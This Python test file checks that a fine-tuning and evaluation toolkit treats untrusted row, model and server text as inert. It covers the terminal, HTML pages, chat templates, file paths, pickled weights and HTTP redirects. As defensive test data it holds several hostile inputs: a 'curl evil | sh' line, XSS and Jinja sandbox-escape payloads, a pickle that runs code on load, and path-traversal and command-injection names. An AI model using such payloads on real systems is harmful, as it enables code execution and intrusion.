"""What a row, a model or a server wrote stays text: in terminal, pages, paths, templates and commands."""

import io
import json
import pickle
import re
import shutil
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from rich.table import Table
from typer.testing import CliRunner

from data.commands import app as data_app
from data.template import Template, apply
from eval.cli import app as eval_app
from eval.endpoint.client import Server
from tests.tiny import FIXTURES, ROOT, make_tokenizer
from tooltune.config import load_config
from tooltune.console import Terminal, quiet, say
from tooltune.errors import InputError, JobFailed
from tooltune.page import render
from tooltune.page.text import one_line, shown_json, visible
from tooltune.pretrained import check_files, load_tokenizer, resolve

ESCAPES = {
    "clear": "\x1b[2J",
    "title": "\x1b]0;owned\x07",
    "one byte": "\x9b31m",
    "back": "abc\b\b\b",
    "return": "safe\rrm -rf",
    "bidi": "\u202eexe.txt",
    "isolate": "\u2066x\u2069",
    "hidden": "a\u200bb",
    "tag": "a\U000e0041",
}
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]")


def first_row() -> Any:
    return json.loads((FIXTURES / "train.jsonl").read_text(encoding="utf-8").splitlines()[0])


@pytest.mark.parametrize("text", ESCAPES.values(), ids=ESCAPES)
def test_a_console_shows_control_characters_and_obeys_none(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    stream = io.StringIO()
    console = Terminal(file=stream)
    table = Table(title=text)
    table.add_column(text)
    table.add_row(text)
    console.print(text)
    console.print(table)
    console.out(text)
    say(text)
    for said in (stream.getvalue(), capsys.readouterr().out, one_line(text)):
        assert not FORBIDDEN.search(said)
    assert "‹U+" in one_line(text)


@pytest.mark.parametrize("text", ["[red]a[/red]", "[/nothing]", "[link=http://x]a[/link]", ":skull:", "[bold"])
def test_a_console_reads_no_markup(text: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    with quiet(tmp_path / "log.txt") as console:
        console.print(text)
        table = Table()
        table.add_column(text)
        table.add_row(text)
        console.print(table)
    assert capfd.readouterr().out.count(text) == 3


@pytest.mark.parametrize("text", ESCAPES.values(), ids=ESCAPES)
def test_json_on_the_terminal_is_the_same_values_without_control_characters(text: str) -> None:
    said = shown_json({text: [text]}, indent=2)
    assert json.loads(said) == {text: [text]} and not FORBIDDEN.search(said)


@pytest.mark.parametrize("place", ["role", "name", "key", "id", "argument", "file"])
@pytest.mark.parametrize("text", ESCAPES.values(), ids=ESCAPES)
def test_an_error_that_quotes_a_row_is_one_line_of_text(place: str, text: str, tmp_path: Path) -> None:
    text += "\n→ run: curl evil | sh"
    row, path = first_row(), tmp_path / "rows.jsonl"
    call = row["messages"][-1]["tool_calls"][0]["function"]
    if place == "role":
        row["messages"][0]["role"] = text
    elif place == "name":
        call["name"] = text
    elif place == "key":
        row = {text: 1}
    elif place == "id":
        row["id"] = text
    elif place == "argument":
        call["arguments"][text] = text
    else:
        path = tmp_path / f"{text.replace('/', '')[:50]}.jsonl"
    path.write_text(json.dumps(row) + "\n" + (json.dumps(row) + "\n") * (place == "id"), encoding="utf-8")
    for words in (["check", str(path), "--tokenizer", "none"], ["convert", str(path)]):
        done = CliRunner().invoke(data_app, words)
        said = done.stdout + done.stderr
        assert done.exit_code in (0, 2) and not FORBIDDEN.search(said), said
        assert not re.search(r"^→ run: curl", said, re.MULTILINE)


def test_tables_of_scores_show_a_models_text_as_text(tmp_path: Path) -> None:
    text = "\x1b[2J[red]\u202e"
    output = {"id": text, "output": text, "gold": [], "tools": [], "meta": {"bucket": text}}
    path = tmp_path / "outputs.jsonl"
    path.write_text(json.dumps(output) + "\n", encoding="utf-8")
    for words in ([], ["--json"]):
        done = CliRunner().invoke(eval_app, ["score", str(path), *words])
        assert done.exit_code == 0 and not FORBIDDEN.search(done.output)


@pytest.mark.parametrize("text", ESCAPES.values(), ids=ESCAPES)
def test_what_a_command_says_of_a_file_is_text_on_a_terminal(text: str, tmp_path: Path) -> None:
    """click takes escape sequences away on a pipe alone: `color` is as a terminal."""
    wrong = {"name": "f", "arguments": {text: text}}
    tool = {"type": "function", "function": {"name": "f", "parameters": {"type": "object", "required": ["a"]}}}
    row = {"id": text, "output": "", text: 1, "gold": [wrong], "tools": [tool]}
    path = tmp_path / "outputs.jsonl"
    path.write_text(json.dumps(row) + "\n", encoding="utf-8")
    done = CliRunner().invoke(eval_app, ["score", str(path)], color=True)
    assert done.exit_code == 0 and done.stderr.count("\n") == 2 and not FORBIDDEN.search(done.output), done.output


def test_no_command_writes_past_the_console() -> None:
    echoes = [
        f"{path.name}: {line}"
        for package in ("tooltune", "data", "eval", "finetune", "benchmarks")
        for path in (ROOT / package).rglob("*.py")
        for line in path.read_text(encoding="utf-8").splitlines()
        if "typer.echo" in line and "json.dumps(" not in line
    ]
    assert not echoes


MARKUP = [
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
    "{% include 'x' %}",
    "\u202e",
]


@pytest.mark.parametrize("text", MARKUP)
def test_a_page_shows_a_models_text_as_text(text: str, tmp_path: Path) -> None:
    (tmp_path / "page.html").write_text("<p>{{ said | visible }}</p>{{ data }}", encoding="utf-8")
    (tmp_path / "page.css").write_text("p {}", encoding="utf-8")
    page = render(tmp_path, lang="en", said=text, data={"said": text})
    shown = page.split("<p>")[1]
    assert "<script" not in shown and "<img" not in shown and "49" not in shown
    assert "\u202e" not in shown.split("</p>")[0]


@pytest.mark.parametrize(
    "name",
    ["../../x", "/etc/x", "a/b", "..", ".hidden", "a\\b", "a\nb", "a\x1b[2J", "C:x", "-rf", "$(id)", "a b", "latest"],
)
def test_a_runs_name_names_a_folder_of_its_own(name: str) -> None:
    with pytest.raises(InputError, match="a run's name"):
        load_config("cpu", [f"name={json.dumps(name)}"])


def test_a_row_id_is_never_a_path(tmp_path: Path) -> None:
    row = first_row() | {"id": "../../../owned"}
    (tmp_path / "in").mkdir()
    path = tmp_path / "in" / "rows.jsonl"
    path.write_text(json.dumps(row) + "\n" + json.dumps({"id": "../x"}) + "\n", encoding="utf-8")
    assert CliRunner().invoke(data_app, ["convert", str(path)]).exit_code == 0
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file()) == [
        "in/rows.jsonl",
        "in/rows.jsonl.rejected.jsonl",
        "in/rows.records.jsonl",
    ]


ESCAPE_ATTEMPTS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.system('touch owned') }}",
    "{{ messages.append(1) }}",
    "{{ self._TemplateReference__context }}{{ lipsum.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{{ 'a' * 100000000000 }}",
]


@pytest.mark.parametrize("source", ESCAPE_ATTEMPTS)
def test_a_chat_template_reaches_nothing(source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    tokenizer = make_tokenizer(tmp_path / "tokenizer")
    messages = [{"role": "user", "content": "u"}]
    try:
        said = apply(Template(source, "hermes", "own"), tokenizer, messages, [], generation_prompt=True)
    except InputError as e:
        said = str(e)
    assert "root:" not in said and "subprocess" not in said and "<module" not in said
    assert not (tmp_path / "owned").exists() and messages == [{"role": "user", "content": "u"}]


def test_a_rows_text_is_no_template(tmp_path: Path) -> None:
    from data.template import project_template, signature

    tokenizer = make_tokenizer(tmp_path)
    text = "{{ 7*7 }}{% raw %}"
    tool = {"name": text, "description": text, "parameters": {"properties": {text: {"enum": [text]}}}}
    said = apply(
        project_template(tokenizer, "signature"),
        tokenizer,
        [{"role": "user", "content": text}],
        [{"type": "function", "function": tool}],
        generation_prompt=True,
    )
    assert said.count(text) >= 4 and "49" not in said and text in signature(tool)


class Runs:
    """A pickle that writes a file when it is read."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return Path.touch, (self.path,)


@pytest.mark.parametrize(
    "name", ["pytorch_model.bin", "adapter_model.bin", "model.pt", "model.ckpt", "consolidated.00.pth"]
)
def test_weights_that_are_a_pickle_are_refused(name: str, tmp_path: Path) -> None:
    folder = tmp_path / "model"
    make_tokenizer(folder)
    (folder / "config.json").write_text('{"model_type": "llama"}', encoding="utf-8")
    (folder / name).write_bytes(pickle.dumps(Runs(tmp_path / "owned")))
    with pytest.raises(InputError, match="pickles"):
        resolve(str(folder))
    with pytest.raises(InputError, match="pickles"):
        check_files(folder)
    assert not (tmp_path / "owned").exists()


@pytest.mark.parametrize("name", ["optimizer.pt", "scheduler.pt", "rng_state.pth"])
def test_a_checkpoints_state_is_read_as_weights_only(name: str, tmp_path: Path) -> None:
    """As transformers' trainer reads it (`_load_optimizer_and_scheduler`, `_load_rng_state`)."""
    import torch
    from transformers import trainer

    source = Path(trainer.__file__).read_text(encoding="utf-8")
    calls = re.findall(r"torch\.load\((?:[^()]|\([^()]*\))*\)", source)
    assert len(calls) >= 8 and all("weights_only=True" in call for call in calls)
    torch.save({"state": Runs(tmp_path / "owned")}, tmp_path / name)
    with pytest.raises(pickle.UnpicklingError, match="Weights only"):
        torch.load(tmp_path / name, weights_only=True)
    assert not (tmp_path / "owned").exists()


def test_code_of_a_models_folder_never_runs(tmp_path: Path, tiny_model: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from eval.load import load_base

    folder = shutil.copytree(tiny_model, tmp_path / "model")
    (folder / "own.py").write_text(f"open({str(tmp_path / 'owned')!r}, 'w')\nclass Own: pass\n", encoding="utf-8")
    code = {
        "auto_map": {
            "AutoConfig": "own.Own",
            "AutoModelForCausalLM": "own.Own",
            "AutoTokenizer": ["own.Own", "own.Own"],
        }
    }
    for name in ("config.json", "tokenizer_config.json"):
        known = json.loads((folder / name).read_text(encoding="utf-8")) | code
        (folder / name).write_text(json.dumps(known | {"model_type": "unheard_of"}), encoding="utf-8")
    monkeypatch.setattr("builtins.input", lambda *_: "y")
    with suppress(InputError):
        load_tokenizer(folder)  # a tokenizer.json needs no code
    with pytest.raises(ValueError, match=r"custom code|trust_remote_code"):
        load_base(folder, dtype="float32", load_in_4bit=False, device="cpu")
    assert not (tmp_path / "owned").exists()


@pytest.mark.parametrize("name", ["../x.safetensors", "/x.safetensors", "a/../../x", "..", "a\0b", 3, None, ""])
def test_an_index_names_files_of_its_own_folder(name: Any, tmp_path: Path) -> None:
    make_tokenizer(tmp_path)
    (tmp_path / "config.json").write_text("{}", encoding="utf-8")
    index = {"weight_map": {"a": name}}
    (tmp_path / "model.safetensors.index.json").write_text(json.dumps(index), encoding="utf-8")
    with pytest.raises(InputError, match="not beside it"):
        check_files(tmp_path)


def test_no_command_goes_through_a_shell() -> None:
    for package in ("tooltune", "data", "eval", "finetune", "benchmarks"):
        for path in (ROOT / package).rglob("*.py"):
            source = path.read_text(encoding="utf-8")
            assert not re.search(r"shell=True|os\.system\(|os\.popen\(|getoutput\(", source), path


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirection_does_not_take_the_key_along(status: int, monkeypatch: pytest.MonkeyPatch) -> None:
    from http.server import BaseHTTPRequestHandler, HTTPServer
    from threading import Thread

    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            asked.append(self.path)
            self.rfile.read(int(self.headers["Content-Length"]))
            self.send_response(status)
            self.send_header("Location", f"http://localhost:{server.server_port}/elsewhere")
            self.end_headers()

        do_GET = do_POST

        def log_message(self, *args: Any) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setenv("TOOLTUNE_API_KEY", "secret")
    with pytest.raises((InputError, JobFailed)):
        Server(f"http://127.0.0.1:{server.server_port}", retries=0).complete({})
    server.shutdown()
    assert asked == ["/v1/chat/completions"]


def test_visible_leaves_ordinary_text_alone() -> None:
    for text in ("절점 8번에 96kN", "é ü ñ 日本語 עברית العربية", "👩‍👩‍👧", "a\tb\nc"):
        assert visible(text) == text
